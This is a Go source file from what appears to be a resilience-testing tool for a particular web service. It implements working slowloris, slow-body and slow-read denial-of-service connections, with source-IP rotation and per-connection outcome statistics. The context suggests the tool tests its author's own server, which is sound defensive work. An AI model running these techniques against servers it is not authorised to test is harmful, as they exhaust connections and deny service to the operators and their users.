package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"sync"
	"time"
)

// slowAttack holds connections open the cheap way for the client: each
// worker keeps one connection at a time, and opens the next when the server
// ends it. An outcome is recorded per connection with how long it was held.
type slowAttack struct {
	cfg   *config
	env   *env
	host  string // Host header and TLS server name
	addr  string
	stats *classStats
	// talk drives one connection until the server ends it or ctx is done,
	// and names the ending.
	talk func(ctx context.Context, conn *throttledConn, tc *tls.Conn) string
}

func startSlow(ctx context.Context, cfg *config, e *env, res *results, wg *sync.WaitGroup) {
	base := slowAttack{cfg: cfg, env: e, host: cfg.URL.Hostname(), addr: targetAddr(cfg)}
	attacks := []struct {
		n     int
		stats *classStats
		talk  func(*slowAttack) func(context.Context, *throttledConn, *tls.Conn) string
	}{
		{cfg.Slowloris, res.slowloris, func(a *slowAttack) func(context.Context, *throttledConn, *tls.Conn) string { return a.slowloris }},
		{cfg.SlowBody, res.slowBody, func(a *slowAttack) func(context.Context, *throttledConn, *tls.Conn) string { return a.slowBody }},
		{cfg.SlowRead, res.slowRead, func(a *slowAttack) func(context.Context, *throttledConn, *tls.Conn) string { return a.slowRead }},
	}
	k := 0
	for _, at := range attacks {
		a := base
		a.stats = at.stats
		a.talk = at.talk(&a)
		for range at.n {
			src := cfg.SlowSrc[k%len(cfg.SlowSrc)]
			k++
			wg.Go(func() { a.worker(ctx, src) })
		}
	}
}

func targetAddr(cfg *config) string {
	port := cfg.URL.Port()
	if port == "" {
		port = "443"
	}
	return net.JoinHostPort(cfg.URL.Hostname(), port)
}

// worker opens connection after connection until ctx is done.
func (a *slowAttack) worker(ctx context.Context, src net.IP) {
	for ctx.Err() == nil {
		start := time.Now()
		raw, tc, err := a.dial(ctx, src)
		if err != nil {
			if ctx.Err() == nil {
				a.stats.record("connect:"+errKind(err), false, time.Since(start))
			}
			sleepCtx(ctx, a.cfg.SlowInterval)
			continue
		}
		outcome := a.talk(ctx, raw, tc)
		_ = tc.Close()
		a.stats.record(outcome, false, time.Since(start))
	}
}

// dial opens a TLS connection (HTTP/1.1) from src whose raw reads can be
// throttled after the handshake.
func (a *slowAttack) dial(ctx context.Context, src net.IP) (*throttledConn, *tls.Conn, error) {
	c, err := sourceDialer(src, a.cfg.Timeout).DialContext(ctx, "tcp", a.addr)
	if err != nil {
		return nil, nil, err
	}
	raw := &throttledConn{Conn: c}
	tc := tls.Client(raw, &tls.Config{RootCAs: a.env.pool, ServerName: a.host, NextProtos: []string{"http/1.1"}, MinVersion: tls.VersionTLS12})
	hctx, cancel := context.WithTimeout(ctx, a.cfg.Timeout)
	defer cancel()
	if err := tc.HandshakeContext(hctx); err != nil {
		_ = c.Close()
		return nil, nil, err
	}
	return raw, tc, nil
}

// slowloris sends a request line and then headers one byte per interval,
// never ending them.
func (a *slowAttack) slowloris(ctx context.Context, _ *throttledConn, tc *tls.Conn) string {
	head := "GET /recommend/1 HTTP/1.1\r\nHost: " + a.host + "\r\n"
	return a.trickle(ctx, tc, nil, func(i int) byte {
		if i < len(head) {
			return head[i]
		}
		const pad = "X-Pad: x\r\n" // a well-formed header, again and again
		return pad[(i-len(head))%len(pad)]
	})
}

// slowBody sends complete headers of POST /events (a valid ingest token)
// announcing 64 KiB, then the body one byte per interval.
func (a *slowAttack) slowBody(ctx context.Context, _ *throttledConn, tc *tls.Conn) string {
	head := fmt.Sprintf("POST /events HTTP/1.1\r\nHost: %s\r\nAuthorization: Bearer %s\r\nContent-Type: text/plain\r\nContent-Length: 65536\r\n\r\n", a.host, a.env.ingest)
	line := "2026-11-25T10:00:00,1,GET /rate/the+matrix+1999=4\n"
	return a.trickle(ctx, tc, []byte(head), func(i int) byte { return line[i%len(line)] })
}

// trickle writes prefix at once, then next(i) one byte per interval, while
// watching for the server's answer or close.
func (a *slowAttack) trickle(ctx context.Context, tc *tls.Conn, prefix []byte, next func(int) byte) string {
	ended := watch(tc)
	if len(prefix) > 0 {
		if _, err := tc.Write(prefix); err != nil {
			return "write:" + errKind(err)
		}
	}
	t := time.NewTicker(a.cfg.SlowInterval)
	defer t.Stop()
	for i := 0; ; i++ {
		if _, err := tc.Write([]byte{next(i)}); err != nil {
			return waitEnded(ended, "write:"+errKind(err))
		}
		select {
		case <-ctx.Done():
			return "held_to_end"
		case outcome := <-ended:
			return outcome
		case <-t.C:
		}
	}
}

// slowRead pipelines requests, then reads the answers a few bytes per
// interval through a small receive buffer.
func (a *slowAttack) slowRead(ctx context.Context, raw *throttledConn, tc *tls.Conn) string {
	var reqs bytes.Buffer
	for i := range a.cfg.SlowReadReqs {
		fmt.Fprintf(&reqs, "GET /recommend/%d HTTP/1.1\r\nHost: %s\r\nAccept: application/json\r\nAuthorization: Bearer %s\r\n\r\n", i+1, a.host, a.env.reader)
	}
	raw.throttle(a.cfg.SlowInterval, 16)
	ended := watch(tc)
	if _, err := tc.Write(reqs.Bytes()); err != nil {
		return waitEnded(ended, "write:"+errKind(err))
	}
	select {
	case <-ctx.Done():
		return "held_to_end"
	case outcome := <-ended:
		return outcome
	}
}

// watch reads tc until it fails and then names how the server ended the
// connection: "answered:<first status>" when anything came back, else
// "closed:<kind>".
func watch(tc *tls.Conn) <-chan string {
	ended := make(chan string, 1)
	go func() {
		first := make([]byte, 0, 16)
		buf := make([]byte, 512)
		for {
			n, err := tc.Read(buf)
			if len(first) < 12 {
				first = append(first, buf[:min(n, 12-len(first))]...)
			}
			if err != nil {
				ended <- endName(first, err)
				return
			}
		}
	}()
	return ended
}

func endName(first []byte, err error) string {
	if len(first) >= 12 && bytes.HasPrefix(first, []byte("HTTP/1.1 ")) {
		return "answered:" + string(first[9:12])
	}
	if err == io.EOF {
		return "closed:eof"
	}
	return "closed:" + errKind(err)
}

// waitEnded prefers the reader's account of a failed write, if it comes soon.
func waitEnded(ended <-chan string, fallback string) string {
	select {
	case o := <-ended:
		return o
	case <-time.After(200 * time.Millisecond):
		return fallback
	}
}

func sleepCtx(ctx context.Context, d time.Duration) {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-ctx.Done():
	case <-t.C:
	}
}

// throttledConn reads at most chunk bytes per interval once throttled, and
// asks the kernel for a small receive buffer, so the server's writes back up.
type throttledConn struct {
	net.Conn
	mu       sync.Mutex
	interval time.Duration
	chunk    int
}

func (c *throttledConn) throttle(interval time.Duration, chunk int) {
	if tcp, ok := c.Conn.(*net.TCPConn); ok {
		_ = tcp.SetReadBuffer(2048)
	}
	c.mu.Lock()
	c.interval, c.chunk = interval, chunk
	c.mu.Unlock()
}

func (c *throttledConn) Read(p []byte) (int, error) {
	c.mu.Lock()
	interval, chunk := c.interval, c.chunk
	c.mu.Unlock()
	if chunk > 0 {
		time.Sleep(interval)
		p = p[:min(len(p), chunk)]
	}
	return c.Conn.Read(p)
}
